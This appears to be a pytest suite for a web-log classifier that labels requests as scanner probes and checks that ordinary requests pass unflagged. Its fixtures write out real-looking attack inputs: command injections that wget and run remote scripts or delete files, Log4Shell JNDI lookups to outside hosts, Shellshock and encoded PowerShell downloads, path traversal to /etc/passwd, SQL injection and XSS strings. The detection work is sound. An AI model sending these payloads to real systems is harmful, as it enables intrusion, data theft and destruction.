"""Probe rules: every family fires on a real-looking attack and stays quiet on ordinary traffic."""

from __future__ import annotations

import pytest
from classify_util import rec

from logwatch.classify import PROBE_FAMILIES, Classifier
from logwatch.classify.probes import ProbeRules, load_probe_data
from logwatch.model import BOT, HUMAN

GOOGLEBOT = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"


def families(**kw: object) -> tuple[str, ...]:
    return Classifier().classify(rec(**kw)).probe_rules  # type: ignore[arg-type]


@pytest.mark.parametrize(
    ("kw", "family"),
    [
        ({"path": "/.env"}, "secret-file"),
        ({"path": "/app/.env.production"}, "secret-file"),
        ({"path": "/.git/config"}, "secret-file"),
        ({"path": "/.git/HEAD"}, "secret-file"),
        ({"path": "/.svn/entries"}, "secret-file"),
        ({"path": "/.aws/credentials"}, "secret-file"),
        ({"path": "/.htpasswd", "status": 403}, "secret-file"),
        ({"path": "/.DS_Store"}, "secret-file"),
        ({"path": "/.rhosts"}, "secret-file"),
        ({"path": "/.subversion/auth"}, "secret-file"),
        ({"path": "/deploy/.terraformrc"}, "secret-file"),
        ({"path": "/id_rsa"}, "secret-file"),
        ({"path": "/wp-config.php.bak"}, "secret-file"),
        ({"path": "/wp-config.php_old", "method": "HEAD", "status": 404}, "secret-file"),
        ({"path": "/wp-config.phpold"}, "secret-file"),
        ({"path": "/wp-config.origin"}, "secret-file"),
        ({"path": "/blog/__wp-config.php"}, "secret-file"),
        ({"path": "/nmaplowercheck1662389561"}, "exploit-path"),
        ({"path": "/index.php~"}, "secret-file"),
        ({"path": "/config.php.swp"}, "secret-file"),
        ({"path": "/settings.old"}, "secret-file"),
        ({"path": "/db/dump.sql"}, "secret-file"),
        ({"path": "/backup.tar.gz"}, "secret-file"),
        (
            {"path": "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "method": "POST"},
            "exploit-path",
        ),
        ({"path": "/boaform/admin/formLogin", "method": "POST"}, "exploit-path"),
        ({"path": "/HNAP1/"}, "exploit-path"),
        ({"path": "/_ignition/execute-solution", "method": "POST"}, "exploit-path"),
        ({"path": "/actuator/env"}, "exploit-path"),
        ({"path": "/actuator"}, "exploit-path"),
        ({"path": "/api/actuator"}, "exploit-path"),
        ({"path": "/hudson"}, "exploit-path"),
        ({"path": "/hudson/script"}, "exploit-path"),
        ({"path": "/struts2-showcase/index.action"}, "exploit-path"),
        ({"path": "/struts/webconsole.html"}, "exploit-path"),
        ({"path": "/solr/admin/info/system", "query": "wt=json"}, "exploit-path"),
        ({"path": "/owa/auth/logon.aspx"}, "exploit-path"),
        ({"path": "/shell.php"}, "exploit-path"),
        ({"path": "/wp-content/plugins/x/c99.php"}, "exploit-path"),
        (
            {
                "path": "/remote/fgt_lang",
                "query": "lang=/../../../..//////////dev/cmdb/sslvpn_websession",
            },
            "exploit-path",
        ),
        ({"path": "/wp-login.php", "status": 404}, "admin-probe"),
        ({"path": "/xmlrpc.php", "status": 404, "method": "POST"}, "admin-probe"),
        # a static site or an SPA fallback answers a POST flood with 405, not 404
        ({"path": "/wp/xmlrpc.php", "status": 405, "method": "POST"}, "admin-probe"),
        # a path that names the family twice, once with 405 and once without
        ({"path": "/wordpress/xmlrpc.php", "status": 405, "method": "POST"}, "admin-probe"),
        ({"path": "/phpmyadmin/index.php", "status": 404}, "admin-probe"),
        ({"path": "/administrator/", "status": 403}, "admin-probe"),
        ({"path": "/webmail/", "status": 404}, "admin-probe"),
        ({"path": "/../../../../etc/passwd"}, "traversal"),
        ({"path": "/%2e%2e/%2e%2e/etc/passwd"}, "traversal"),
        ({"path": "/%252E%252E%252Ffoo1"}, "traversal"),
        ({"path": "/download", "query": "file=..%2F..%2Fetc%2Fpasswd"}, "traversal"),
        ({"path": "/view", "query": "page=report.pdf%00.html"}, "traversal"),
        ({"path": "/cgi-bin/.%2e/.%2e/.%2e/bin/sh", "method": "POST"}, "traversal"),
        # overlong UTF-8 and IIS %u slashes decode to U+FFFD, not to a ../ the tokens see
        ({"path": "/%c0%af..%c0%af..%c0%afetc/passwd"}, "traversal"),
        ({"path": "/scripts/..%C1%1C..%C1%1Cwinnt/x.txt"}, "traversal"),
        ({"path": "/..%e0%80%af..%e0%80%afx"}, "traversal"),
        ({"path": "/download", "query": "f=..%u2216..%u2216boot"}, "traversal"),
        ({"path": "/foo", "query": "a=%20union%20all%20select%20"}, "sqli"),
        ({"path": "/item", "query": "id=1%27%20AND%20SLEEP(5)--"}, "sqli"),
        ({"path": "/foo", "query": "a=information_schema.tables"}, "sqli"),
        ({"path": "/item", "query": "id=1+UNION+SELECT+username,password+FROM+users"}, "sqli"),
        ({"path": "/item", "query": "id=1%20union/**/select%201"}, "sqli"),
        ({"path": "/item", "query": "id=1%20union--%0aselect%201"}, "sqli"),
        ({"path": "/item", "query": "id=1%20AND%20SLEEP%20(5)"}, "sqli"),
        ({"path": "/search", "query": "q=%3Cscript%3Ealert(1)%3C/script%3E"}, "xss"),
        ({"path": "/search", "query": "q=%22%3E%3Csvg/onload=alert(document.domain)%3E"}, "xss"),
        ({"path": "/foo", "query": "a=javascript:prompt(1)"}, "xss"),
        (
            {"path": "/cgi-bin/ping", "query": "ip=127.0.0.1;wget%20http://1.2.3.4/x.sh"},
            "shell-injection",
        ),
        (
            {"path": "/shell", "query": "cd+/tmp;rm+-rf+*;wget+http://1.2.3.4/jaws;sh+/tmp/jaws"},
            "shell-injection",
        ),
        (
            {
                "path": "/",
                "agent": "${jndi:ldap://45.155.205.233:12344/Basic/Command/Base64/KGN1cmw=}",
            },
            "shell-injection",
        ),
        (
            {"path": "/", "referrer": "${jndi:${lower:l}${lower:d}a${lower:p}://x.y/callback}"},
            "shell-injection",
        ),
        ({"path": "/", "agent": "() { :; }; /bin/bash -c 'cat /etc/passwd'"}, "shell-injection"),
        (
            {"path": "/cgi-bin/x", "query": "c=powershell%20-nop%20-w%20hidden%20-enc%20JABz"},
            "shell-injection",
        ),
        (
            {"path": "/x", "query": "cmd=powershell.exe+IEX(New-Object+Net.WebClient)"},
            "shell-injection",
        ),
        ({"path": "/x;powershell+-e+JABz"}, "shell-injection"),
        (
            {
                "path": "/index.php",
                "query": "s=/index/\\think\\app/invokefunction&function=call_user_func_array",
            },
            "shell-injection",
        ),
        ({"path": "/start.php", "query": "lang=http://cirt.net/rfiinc.txt??"}, "remote-include"),
        ({"path": "/index.php", "query": "page=http://198.51.100.3/shell.txt"}, "remote-include"),
        (
            {
                "path": "/index.php",
                "query": "file=php://filter/convert.base64-encode/resource=index",
            },
            "remote-include",
        ),
        ({"path": "/", "method": "PROPFIND", "status": 405}, "odd-method"),
        ({"path": "/", "method": "TRACE", "status": 405}, "odd-method"),
        ({"path": "/", "method": "DEBUG", "status": 405}, "odd-method"),
        ({"path": "foo.com:25", "method": "CONNECT", "status": 400}, "proxy-attempt"),
        (
            {"path": "http://www.sbjudge4.com:80/ip4.php", "protocol": "HTTP/1.0", "status": 400},
            "proxy-attempt",
        ),
        (
            {
                "path": "",
                "method": "",
                "protocol": "",
                "request": "\\x16\\x03\\x01\\x00\\xa5\\x01",
                "status": 400,
            },
            "bad-request-line",
        ),
        (
            {"path": "", "method": "", "protocol": "", "request": "SSH-2.0-Go", "status": 400},
            "bad-request-line",
        ),
        (
            {
                "path": "",
                "method": "",
                "protocol": "",
                "request": "\\x03\\x00\\x00/*\\xe0\\x00\\x00\\x00\\x00\\x00Cookie: mstshash=Administr",
                "status": 400,
            },
            "bad-request-line",
        ),
        (
            {"path": "", "method": "", "protocol": "", "request": "-", "status": 400},
            "bad-request-line",
        ),
        ({"path": "/", "protocol": "HTTP/1.2", "status": 505}, "bad-request-line"),
        ({"path": "/", "agent": "sqlmap/1.7.2#stable (https://sqlmap.org)"}, "scanner-agent"),
    ],
)
def test_probe_families_fire(kw: dict[str, object], family: str) -> None:
    v = Classifier().classify(rec(**kw))  # type: ignore[arg-type]
    assert v.probe and family in v.probe_rules, v
    assert v.cls == BOT
    assert any(family in r for r in v.reasons)


@pytest.mark.parametrize(
    "kw",
    [
        {"path": "/.well-known/acme-challenge/abc123"},
        {"path": "/.well-known/security.txt"},
        {"path": "/.netlify/functions/signup", "method": "POST"},
        {"path": "/search", "query": "q=a%3Cb+and+c"},
        {"path": "/blog/2024/05/how-to-use-git"},
        {"path": "/wp-login.php", "status": 200},
        {"path": "/admin/", "status": 302},
        # a real admin answers a wrong method with 405: Django 5's logout by GET, a refused CORS
        # preflight, a POST to a page that only shows
        {"path": "/admin/logout/", "status": 405},
        {"path": "/admin/api/users", "method": "OPTIONS", "status": 405},
        {"path": "/signin", "method": "POST", "status": 405},
        {"path": "/login", "query": "next=https://example.com/account"},
        {"path": "/search", "query": "q=select+a+good+union+rep"},
        {"path": "/blog/union-select-guide"},
        {"path": "/docs/sql/union-all-select-examples"},
        {"path": "/hudson-valley-tours"},
        {"path": "/tags/powershell"},
        {"path": "/search", "query": "q=health+and+sleep"},
        {"path": "/search", "query": "q=work+or+sleep"},
        {"path": "/search", "query": "q=powershell+tutorial"},
        {"path": "/blog/struts-and-shocks"},
        {"path": "/products/actuators"},
        {"path": "/search", "query": "q=rock+%26+roll&page=2"},
        {"path": "/api/items", "query": "sort=-created&filter=a|b"},
        {"path": "/SOGo/dav/a@example.org/Calendar/personal/", "method": "REPORT", "status": 207},
        {"path": "*", "method": "OPTIONS"},
        {"path": "/", "protocol": "HTTP/2.0"},
        {"path": "/docs/env-vars.html"},
        {"path": "/static/app.js.map"},
        {"path": "/wp-config.php", "status": 200},  # the file itself runs and shows nothing
        {"path": "/wp-config-sample.php"},
        {"path": "/docs/editing-wp-config-php/"},
    ],
)
def test_ordinary_requests_are_not_probes(kw: dict[str, object]) -> None:
    v = Classifier().classify(rec(**kw))  # type: ignore[arg-type]
    assert not v.probe, v
    assert v.cls != BOT


def test_admin_paths_only_count_when_refused() -> None:
    c = Classifier()
    assert not c.classify(rec("/wp-login.php", status=200)).probe
    # same path, now answered 404: the path cache must not hide the status rule
    v = c.classify(rec("/wp-login.php", status=404, client="198.51.100.1"))
    assert v.probe_rules == ("admin-probe",)
    assert v.reasons == ("path /wp-login.php → admin-probe probe (wp-login.php)",)


def test_probe_by_known_crawler_keeps_its_category() -> None:
    v = Classifier().classify(rec("/.env", agent=GOOGLEBOT))
    assert (v.cls, v.bot_category, v.bot_name, v.probe) == (BOT, "search", "Googlebot", True)
    assert v.reasons[0] == "user agent matches Googlebot → search"


def test_probe_by_a_library_or_browser_is_a_scanner() -> None:
    c = Classifier()
    v = c.classify(rec("/.env", agent="curl/8.0"))
    assert (v.bot_category, v.bot_name) == ("scanner", "curl")
    v = c.classify(rec("/.git/config", client="198.51.100.9"))
    assert (v.cls, v.bot_category, v.bot_name) == (BOT, "scanner", None)
    assert v.reasons == ("path /.git/config → secret-file probe (/.git/)",)


def test_probe_family_list_matches_the_data() -> None:
    data = load_probe_data()
    ids = [f["id"] for f in data["family"]]
    assert set(ids) <= set(PROBE_FAMILIES)
    assert len(PROBE_FAMILIES) == len(set(PROBE_FAMILIES))
    for fam in data["family"]:
        assert fam.get("source"), f"family {fam['id']} must say where its facts came from"


def test_empty_method_and_path_do_not_crash() -> None:
    c = Classifier()
    for kw in (
        {"path": "", "method": "", "protocol": "", "request": ""},
        {"path": "", "method": "GET", "protocol": "", "request": "GET"},
        {"path": "x", "method": "get", "protocol": "HTTP/1.1"},
    ):
        v = c.classify(rec(**kw))  # type: ignore[arg-type]
        assert v.cls in (BOT, HUMAN)


def test_rules_load_without_the_classifier() -> None:
    rules = ProbeRules()
    hits, conditional = rules.path_hits("/.env")
    assert hits[0][0] == "secret-file" and not conditional


def test_percent_decoding_is_urllibs() -> None:
    """The probes' percent-decoding (C passes) gives what urllib's unquote and unquote_plus
    give, on the awkward pieces of hostile paths: broken escapes, `%%`, `=`, `+`, partial and
    invalid UTF-8 sequences, non-ASCII text beside escapes."""
    import random
    from urllib.parse import unquote, unquote_plus

    from logwatch.classify.probes import _unquote

    pieces = [
        "%", "%%", "%2", "%25", "%2e", "%2E", "%c3", "%a9", "%C3%A9", "%e2%82", "%ff", "%00",
        "%0a", "=", "=3D", "+", " ", "a", "g", "é", "€", "\U0001f600", "_", "\\", "%u002e",
        "%%41", "%=", "%3=", "%F0%9F%98", "%80", "%ed%a0%80", "%e0%80%af", "\ud800",
    ]  # fmt: skip
    rng = random.Random(5)
    for _ in range(20_000):
        text = "".join(rng.choice(pieces) for _ in range(rng.randrange(12)))
        assert _unquote(text, False) == unquote(text, errors="replace"), text
        assert _unquote(text, True) == unquote_plus(text, errors="replace"), text
    # 2 KB of escapes with a few stray `%`s (found one by one) or many (a regex), and the end
    # of a path cut at 2 KB: half an escape
    for _ in range(1000):
        text = "".join(
            rng.choice(pieces) if rng.random() < 0.02 else f"%{rng.randrange(256):02x}"
            for _ in range(rng.randrange(700))
        ) + rng.choice(("", "%", "%2", "%%", "%e", "%…", "%2…"))
        assert _unquote(text, False) == unquote(text, errors="replace"), text


@pytest.mark.parametrize(
    ("status", "part"), [(404, "/wordpress/"), (405, "xmlrpc.php"), (403, "/wordpress/")]
)
def test_a_status_dependent_probe_names_the_part_that_counts_at_its_status(
    status: int, part: str
) -> None:
    # /wordpress/ counts at 403 and 404, xmlrpc.php at 405 too: a 405 was explained by
    # "(/wordpress/)", a part that is no probe at 405.
    v = Classifier().classify(rec("/wordpress/xmlrpc.php", status=status, method="POST"))
    assert v.probe_rules == ("admin-probe",)
    assert v.reasons == (f"path /wordpress/xmlrpc.php → admin-probe probe ({part})",)


def test_lowering_in_parts_is_lowering() -> None:
    # sanitize.lowercase lowers an ASCII head apart; the asset check lowers only the last segment.
    import random

    from logwatch.sanitize import lowercase

    for text in ("/A" * 1100 + "…", "/A" * 1100 + "ΑΣ", "/A" * 1100 + "é/x…"):
        assert lowercase(text) == text.lower()
    rng = random.Random(6)
    pieces = ["a", "B", "/", ".", "Σ", "σ", "İ", "…", "é", "ΑΣ", "x" * 300, "Z" * 300, " ", "'"]
    for _ in range(3000):
        text = "".join(rng.choice(pieces) for _ in range(rng.randrange(1, 12)))
        lowered = text.lower()
        assert lowercase(text) == lowered, text
        assert text[text.rfind("/") + 1 :].lower() == lowered[lowered.rfind("/") + 1 :], text
